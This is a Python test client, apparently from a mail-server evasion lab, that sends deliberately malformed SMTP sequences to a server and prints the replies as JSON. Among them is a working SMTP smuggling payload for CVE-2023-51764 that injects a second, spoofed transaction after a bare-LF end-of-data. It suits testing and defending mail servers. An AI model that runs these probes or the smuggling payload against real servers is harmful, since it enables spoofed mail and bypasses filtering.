#!/usr/bin/env python3
"""Raw-socket SMTP clients for the evasion lab test: each sends what an
attacker can send with one ordinary socket option, then prints the replies
it read as JSON (one list of reply lines per command).

usage: evasion_client.py MODE SERVER_IP HELO RCPT
  oob        EHLO, MAIL, then NOOP whose last byte goes as urgent data
             (send(fd, "\\n", MSG_OOB)), then RCPT
  fastopen   EHLO as data on the SYN (TCP Fast Open, no cookie needed with
             net.ipv4.tcp_fastopen=5), then MAIL and RCPT
  data       EHLO, MAIL, then "DATA\\r\\nRCPT TO:<RCPT>\\r\\n" in one write
  auth       EHLO, MAIL, then "AUTH PLAIN\\r\\nRCPT TO:<RCPT>\\r\\n" in one write
  vt         EHLO, MAIL, then "RCPT\\x0bTO:<RCPT>" (a vertical tab as delimiter)
  longline   EHLO, MAIL, a 5,000-byte NOOP line, then RCPT
  rsets      EHLO, then 33 RSETs, MAIL and RCPT in one write
  smuggle    EHLO HELO, MAIL, RCPT (a good transaction), DATA, then a body
             ending "\\n.\\n" (bare LF) followed by "EHLO localhost", MAIL,
             RCPT TO:<RCPT> and DATA in the same write: SMTP smuggling
             (CVE-2023-51764): "replies" lists every reply read after it
Prints {"step": [reply lines], ...}; for the one-write modes "group" holds
every reply read after the write, in order.
"""
import json
import socket
import sys

TIMEOUT = 8


def read_reply(f):
    """One SMTP reply (all its lines), or [] at end of stream/timeout."""
    lines = []
    while True:
        try:
            line = f.readline()
        except (socket.timeout, ConnectionError):
            return lines
        if not line:
            return lines
        line = line.decode("latin-1").rstrip("\r\n")
        lines.append(line)
        if len(line) < 4 or line[3] != "-":
            return lines


def main():
    how, server, helo, rcpt = sys.argv[1:5]
    got = {}
    if how == "fastopen":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(TIMEOUT)
        s.sendto(("EHLO %s\r\n" % helo).encode(), socket.MSG_FASTOPEN, (server, 25))
        f = s.makefile("rb")
        got["greeting"] = read_reply(f)
        got["ehlo"] = read_reply(f)
    else:
        s = socket.create_connection((server, 25), timeout=TIMEOUT)
        f = s.makefile("rb")
        got["greeting"] = read_reply(f)
        s.sendall(("EHLO %s\r\n" % helo).encode())
        got["ehlo"] = read_reply(f)
    if how == "smuggle":
        s.sendall(b"MAIL FROM:<smuggler@example.org>\r\n")
        got["mail"] = read_reply(f)
        s.sendall(b"RCPT TO:<first@lab-mail.net>\r\n")
        got["first_rcpt"] = read_reply(f)
        s.sendall(b"DATA\r\n")
        got["data"] = read_reply(f)
        s.sendall(b"Subject: hello\r\n\r\nhello\n.\nEHLO localhost\r\n"
                  b"MAIL FROM:<evil@example.org>\r\n" +
                  ("RCPT TO:<%s>\r\n" % rcpt).encode() +
                  b"DATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n")
        s.settimeout(4)
        replies = []
        while True:
            r = read_reply(f)
            if not r:
                break
            replies.append(r)
        got["replies"] = replies
        print(json.dumps(got))
        return
    if how == "rsets":
        group = b"RSET\r\n" * 33 + b"MAIL FROM:<evasion@example.org>\r\n"
        s.sendall(group + ("RCPT TO:<%s>\r\n" % rcpt).encode())
        got["group"] = [read_reply(f) for _ in range(35)]
        s.sendall(b"QUIT\r\n")
        got["quit"] = read_reply(f)
        print(json.dumps(got))
        return
    s.sendall(b"MAIL FROM:<evasion@example.org>\r\n")
    got["mail"] = read_reply(f)
    one_write = {"data": b"DATA\r\n", "auth": b"AUTH PLAIN\r\n"}
    if how in one_write:
        s.sendall(one_write[how] + ("RCPT TO:<%s>\r\n" % rcpt).encode())
        got["group"] = [read_reply(f), read_reply(f)]
        s.sendall(b"QUIT\r\n")
        got["quit"] = read_reply(f)
        print(json.dumps(got))
        return
    if how == "vt":
        s.sendall(("RCPT\x0bTO:<%s>\r\n" % rcpt).encode())
        got["rcpt"] = read_reply(f)
        s.sendall(b"QUIT\r\n")
        got["quit"] = read_reply(f)
        print(json.dumps(got))
        return
    if how == "longline":
        s.sendall(b"NOOP " + b"x" * 4995 + b"\r\n")
        got["noop"] = read_reply(f)
    if how == "oob":
        s.sendall(b"NOOP\r")
        s.send(b"\n", socket.MSG_OOB)
        got["noop"] = read_reply(f)
    s.sendall(("RCPT TO:<%s>\r\n" % rcpt).encode())
    got["rcpt"] = read_reply(f)
    s.sendall(b"QUIT\r\n")
    got["quit"] = read_reply(f)
    print(json.dumps(got))


if __name__ == "__main__":
    main()
